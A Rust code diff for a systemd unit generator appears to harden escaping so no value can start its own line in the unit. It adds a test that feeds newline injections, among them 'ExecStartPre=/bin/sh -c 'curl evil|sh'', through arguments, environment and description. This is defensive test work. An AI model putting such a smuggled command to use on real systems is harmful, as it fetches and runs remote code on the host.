@@ -62,20 +62,34 @@ pub async fn of_trial(
     Ok(command.and_then(|c| recipe(&c, t.load_ms, &description)))
 }
 
-/// `%` and `$` as systemd reads them literally.
+/// `%` and `$` as systemd reads them literally; line breaks as spaces
+/// (a description is one line).
 fn systemd_escape(s: &str) -> String {
-    s.replace('%', "%%").replace('$', "$$")
+    s.replace('%', "%%").replace('$', "$$").replace(['\n', '\r'], " ")
 }
 
 /// One word of a systemd command line: quoted when it holds a space, a
-/// quote or a backslash.
+/// quote, a backslash or a control character, which is written as a C
+/// escape (`\n`), so no value can start a line of its own in the unit.
 fn systemd_word(s: &str) -> String {
     let s = systemd_escape(s);
-    if s.is_empty() || s.chars().any(|c| c.is_whitespace() || c == '"' || c == '\'' || c == '\\') {
-        format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
-    } else {
-        s
+    let plain = |c: char| !(c.is_whitespace() || c.is_control() || "\"'\\".contains(c));
+    if !s.is_empty() && s.chars().all(plain) {
+        return s;
     }
+    let mut out = String::from("\"");
+    for c in s.chars() {
+        match c {
+            '\\' => out.push_str("\\\\"),
+            '"' => out.push_str("\\\""),
+            '\n' => out.push_str("\\n"),
+            '\t' => out.push_str("\\t"),
+            c if c.is_control() => out.push_str(&format!("\\x{:02x}", c as u32 & 0xff)),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
 }
 
 #[cfg(test)]
@@ -106,5 +120,22 @@ mod tests {
         let quick = recipe(&command.to_string(), Some(1_500.0), "x").unwrap();
         assert!(quick.unit.contains("TimeoutStartSec=60\n"), "never under a minute");
         assert!(recipe("{\"url\": \"http://x\"}", None, "x").is_none(), "nothing to run");
+    }
+
+    #[test]
+    fn no_value_starts_a_line_of_its_own() {
+        let command = serde_json::json!({
+            "program": "/opt/llama-server",
+            "args": ["--alias", "x\nExecStartPre=/bin/sh -c 'curl evil|sh'"],
+            "env": { "A": "1\nExecStartPre=/bin/true" },
+        });
+        let r = recipe(&command.to_string(), None, "d\nExecStartPre=/bin/false").unwrap();
+        for line in r.unit.lines() {
+            assert!(!line.starts_with("ExecStartPre"), "{}", r.unit);
+        }
+        // The shell line quotes every word: read back, it is the same words.
+        let words = shlex::split(&r.shell).unwrap();
+        assert_eq!(words[0], "A=1\nExecStartPre=/bin/true");
+        assert_eq!(words[3], "x\nExecStartPre=/bin/sh -c 'curl evil|sh'");
     }
 }
